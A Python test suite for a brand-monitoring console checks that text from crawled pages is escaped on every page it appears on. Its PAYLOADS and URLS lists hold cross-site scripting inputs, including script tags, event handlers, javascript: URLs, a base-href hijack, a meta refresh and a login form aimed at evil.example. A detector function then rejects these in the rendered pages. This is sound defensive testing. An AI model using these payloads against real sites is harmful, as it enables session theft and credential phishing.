"""What a crawled page controls must stay text, on every page that shows it."""

from dataclasses import replace
from urllib.parse import quote

from lxml import html

from groundswell.console.render import excerpt, marked, title_of
from storage.records import BrandHit, BrandId, FetchCause, RawMention, SourceHealth, SourceId, Term
from tests.console.world import World, gather, keep, verdict_on
from tests.make import make_mention, make_source_state

PAYLOADS = [
    "<script>alert(1)</script>",
    "</p><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><iframe srcdoc="<script>alert(1)</script>">',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<a href=javascript:alert(1)>点</a>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>登录</button></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "{{ 7 * 7 }}{% raw %}",
    "<!--><img src=x onerror=alert(1)-->",
    "<details open ontoggle=alert(1)>",
    "\u202e\u2066<b>倒</b>",
    "<scr\x00ipt>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<div hx-get='//evil.example' hx-trigger='load'>",
    '<div data-hx-on:load="alert(1)">',
]
URLS = [
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://a.example/"onclick="alert(1)',
    "https://user:pass@a.example/",
    "vbscript:x",
    "//evil.example",
    "https://a.example/<script>",
]
OUR_SCRIPTS = {
    "/static/vendor/htmx.min.js",
    "/static/vendor/uplot.min.js",
    "/static/console.js",
    "/static/clusters.js",
}


def assert_harmless(page: str) -> None:
    tree = html.fromstring(page)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in {"iframe", "object", "embed", "base", "style", "math"}, element
        if element.tag == "script":
            assert element.get("src") in OUR_SCRIPTS
            assert not (element.text or "").strip()
        for name, value in element.attrib.items():
            assert not name.startswith("on"), (element.tag, name)
            assert name != "style"
            assert "hx-on" not in name
            if name in {"hx-get", "hx-post"}:
                assert value.startswith("/")
            if name in {"href", "src", "action"}:
                assert value.startswith(("/", "#", "http://", "https://")), value
                assert not value.startswith("//"), value
                assert "user:pass" not in value
        if element.tag == "meta":
            assert element.get("http-equiv") is None


def test_payloads_in_mentions_stay_text_on_every_page(world: World) -> None:
    now = world.clock.now()
    raws = [
        RawMention(
            source_id=SourceId("jing-tousu"),
            platform=payload[:60],
            native_id=f"p{n}",
            url=URLS[n % len(URLS)],
            title=f"澜禾{payload}",
            text=f"澜禾养生壶冒烟 {payload} 焦糊 {n}",
            author=payload,
            region=payload[:30],
            published_at=now,
            observed_at=now,
        )
        for n, payload in enumerate(PAYLOADS)
    ]
    mentions = keep(world, raws)
    incident = gather(world, mentions)
    client = world.client("linxiao")
    paths = ["/", f"/incidents/{incident.incident_id}"]
    paths += [f"/mentions/{mention.mention_id}" for mention in mentions]
    for path in paths:
        reply = client.get(path)
        assert reply.status_code == 200
        assert_harmless(reply.text)
    assert "49{%" not in client.get(paths[-1]).text
    link = world.links.action(incident, "ack", incident.owner_id)
    assert_harmless(client.get(link).text)


def test_payloads_in_a_sources_cause_stay_text(world: World) -> None:
    with world.store.transaction() as tx:
        tx.save_source(
            make_source_state(
                "jing-tousu",
                health=SourceHealth.DEGRADED,
                cause=FetchCause.LAYOUT,
                cause_text=" ".join(PAYLOADS).replace("\x00", ""),
                polls=3,
            )
        )
    client = world.client("linxiao")
    for path in ("/sources", "/sources/jing-tousu"):
        assert_harmless(client.get(path).text)


def test_payloads_in_addresses_stay_text(world: World) -> None:
    client, stranger = world.client("linxiao"), world.client()
    for payload in PAYLOADS:
        for reply in (
            client.get("/digest", params={"day": payload, "owner": payload}),
            client.get("/incidents/" + quote(payload, safe="")),
            stranger.get("/login", params={"next": payload}),
        ):
            assert reply.status_code in {200, 400, 404, 405}
            if reply.status_code != 400 or "<html" in reply.text:
                assert_harmless(reply.text)


def test_marks_follow_the_original_text() -> None:
    mention = make_mention(1, text="<b>澜禾</b>壶冒烟，澜禾说明书")
    hit = BrandHit(brand_id=BrandId("lanhe"), alias="澜禾", field="text", start=3, end=5)
    verdict = replace(verdict_on(mention), hits=(hit,), terms=(Term(text="冒烟", weight=1.0),))
    assert marked(mention.text, "text", [verdict]) == (
        '&lt;b&gt;<mark class="brand">澜禾</mark>&lt;/b&gt;壶<mark class="term">冒烟</mark>，澜禾说明书'
    )


def test_a_mark_that_lies_outside_the_text_is_left_out() -> None:
    mention = make_mention(1, text="短")
    hits = tuple(
        BrandHit(brand_id=BrandId("lanhe"), alias="澜禾", field="text", start=start, end=end)
        for start, end in ((0, 9), (5, 7), (-1, 1), (1, 0))
    )
    verdict = replace(verdict_on(mention), hits=hits, terms=())
    assert marked(mention.text, "text", [verdict]) == "短"


def test_an_excerpt_shows_where_it_counts() -> None:
    mention = make_mention(1, text="前" * 500 + "冒烟" + "后" * 500)
    shown = str(excerpt(mention, replace(verdict_on(mention), hits=())))
    assert shown.startswith("…")
    assert shown.endswith("…")
    assert '<mark class="term">冒烟</mark>' in shown
    assert len(shown) < 300


def test_a_title_that_only_begins_the_text_is_not_said_twice() -> None:
    assert title_of(make_mention(1, title="厨房一股味…", text="厨房一股味，跑过去一看")) == ""
    assert title_of(make_mention(1, title="质量问题", text="厨房一股味")) == "质量问题"
